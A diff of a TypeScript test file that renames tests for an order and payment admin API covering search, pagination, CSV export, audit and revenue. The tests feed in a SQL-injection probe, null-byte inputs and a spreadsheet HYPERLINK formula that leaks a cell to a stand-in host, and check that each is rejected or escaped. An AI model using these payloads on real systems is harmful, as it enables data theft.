@@ -63,7 +63,7 @@ async function anOrder({
   return id
 }
 
-describe('the search of orders', () => {
+describe('the order search', () => {
   const id = 'c0ffee00-1111-4111-8111-111111111111'
   const txid = 'abcd1234abcd1234abcd1234abcd1234'
   const endToEndId = 'E18236120202601051200s0123456789'
@@ -73,8 +73,8 @@ describe('the search of orders', () => {
     await anOrder({ id, paymentId, txid, endToEndId, link, status: 'paid' })
     await anOrder({ link: 'https://www.instagram.com/padaria-da-ana/' })
   })
-  const found = async (words: string, more = '') =>
-    (await get(`/api/orders?search=${encodeURIComponent(words)}${more}`)).map((it: { id: string }) => it.id)
+  const matches = async (search: string, more = '') =>
+    (await get(`/api/orders?search=${encodeURIComponent(search)}${more}`)).map((it: { id: string }) => it.id)
 
   it.each([
     ['its whole id', id],
@@ -86,23 +86,23 @@ describe('the search of orders', () => {
     ['the beginning of its txid', 'abcd1234'],
     ['its id at the bank', endToEndId],
     ['its payment as the panel calls it', 'PIX_f0f1f2'],
-  ])('finds an order by %s', async (_, words) => {
-    expect(await found(words)).toEqual([id])
+  ])('finds an order by %s', async (_, search) => {
+    expect(await matches(search)).toEqual([id])
   })
 
-  it('finds nothing else, and goes together with the status', async () => {
-    for (const words of ['padaria%', 'padaria.da_x', 'ffff0000ffff', "';--", '\\', 'PIX_c0ffee'])
-      expect([words, await found(words)]).toEqual([words, []])
-    expect(await found('padaria')).toHaveLength(2)
-    expect(await found('padaria', '&status=paid')).toEqual([id])
+  it('finds nothing else, and combines with the status', async () => {
+    for (const search of ['padaria%', 'padaria.da_x', 'ffff0000ffff', "';--", '\\', 'PIX_c0ffee'])
+      expect([search, await matches(search)]).toEqual([search, []])
+    expect(await matches('padaria')).toHaveLength(2)
+    expect(await matches('padaria', '&status=paid')).toEqual([id])
     expect((await get('/api/orders?search=%20')).length).toBeGreaterThan(1)
-    for (const words of ['a'.repeat(301), '%00', 'loja%00'])
-      expect((await ask(`/api/orders?search=${words}`)).statusCode).toBe(400)
+    for (const search of ['a'.repeat(301), '%00', 'loja%00'])
+      expect((await ask(`/api/orders?search=${search}`)).statusCode).toBe(400)
   })
 })
 
-describe('the pages of a list', () => {
-  it('leave nothing out and show nothing twice, although many orders are of the same moment', async () => {
+describe('pagination', () => {
+  it('neither skips nor repeats rows of the same timestamp', async () => {
     const createdAt = at(0, '2025-05-05')
     const made = await Promise.all(
       Array.from({ length: 7 }, () => anOrder({ createdAt, link: 'https://www.tiktok.com/@mesma.hora' })),
@@ -120,7 +120,7 @@ describe('the pages of a list', () => {
     }
   })
 
-  it('hold payments of one status only', async () => {
+  it('filters payments by status', async () => {
     await anOrder({ confirmedAt: at(0) })
     const statuses = (await get('/api/payments?status=confirmed')).map((it: { status: string }) => it.status)
     expect(new Set(statuses)).toEqual(new Set(['confirmed']))
@@ -129,7 +129,7 @@ describe('the pages of a list', () => {
 })
 
 describe('an export', () => {
-  it('is what a Brazilian spreadsheet reads, and a formula in it stays text', async () => {
+  it('is CSV for Brazilian spreadsheets with escaped formulas', async () => {
     const link = '=HYPERLINK("https://mau.example/?;"&A1)'
     const txid = 'fedc9876fedc9876fedc9876fedc9876'
     const paidAt = at(5)
@@ -154,7 +154,7 @@ describe('an export', () => {
     )
   })
 
-  it('of payments holds those of the status alone', async () => {
+  it('of payments filters by status', async () => {
     const { body } = await ask('/api/payments/export?status=confirmed')
     const lines = body.trimEnd().split('\r\n')
     expect(lines[0]).toBe(
@@ -164,7 +164,7 @@ describe('an export', () => {
     for (const line of lines.slice(1)) expect(line).toContain(';Confirmado;')
   })
 
-  it('holds every row, however many pages they are', async () => {
+  it('contains the rows of every page', async () => {
     const rows = Array.from({ length: 2_500 }, (_, n) => ({
       id: randomUUID(),
       conversationId: randomUUID(),
@@ -188,7 +188,7 @@ describe('an export', () => {
   })
 })
 
-it('keeps who took data away', async () => {
+it('audits exports', async () => {
   await ask('/api/orders/export?status=paid&search=loja')
   expect(await get('/api/audit?action=exported-orders&limit=1')).toMatchObject([
     { actor: 'admin', details: { status: 'paid', search: 'loja' } },
@@ -196,7 +196,7 @@ it('keeps who took data away', async () => {
 })
 
 describe('the revenue', () => {
-  it('is of the last 30 days of São Paulo, by day and by product', async () => {
+  it('covers the last 30 days of São Paulo, by day and by product', async () => {
     const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'America/Sao_Paulo' }).format()
     const daysAgo = (days: number) => new Date(Date.parse(`${today}T00:00:00-03:00`) - days * 86_400_000)
     const before = await get('/api/payments/revenue')
@@ -226,13 +226,13 @@ describe('the revenue', () => {
     ])
   })
 
-  it('is without what went back of it, on the day it went', async () => {
+  it('subtracts refunds on their own day', async () => {
     const before = await get('/api/payments/revenue')
     const stats = await get('/api/payments/stats')
     const endToEndId = `E${randomUUID()}`
     const yesterday = new Date(Date.now() - 86_400_000)
-    const wish = { amountCents: 1_000, endToEndId, confirmedAt: yesterday, platform: 'youtube' } as const
-    const orderId = await anOrder(wish)
+    const request = { amountCents: 1_000, endToEndId, confirmedAt: yesterday, platform: 'youtube' } as const
+    const orderId = await anOrder(request)
     const refund = { orderId, endToEndId, cause: 'DELIVERED_IN_PART', amountCents: 250 }
     const done = { state: 'done', finishedAt: new Date() } as const
     await orders.db
@@ -267,7 +267,7 @@ describe('the audit', () => {
       .execute()
   const list = (query: string) => get(`/api/audit?${query}`)
 
-  it('tells who did what, when and why, newest first, page by page', async () => {
+  it('lists actor, action, time and reason, newest first, page by page', async () => {
     const orderId = randomUUID()
     await write('maria', 'send-again', { orderId, reason: 'Não está lá' })
     await write('joao', 'refund-amount', { orderId, reason: '100% justo', amountCents: 1_000, subject: null })
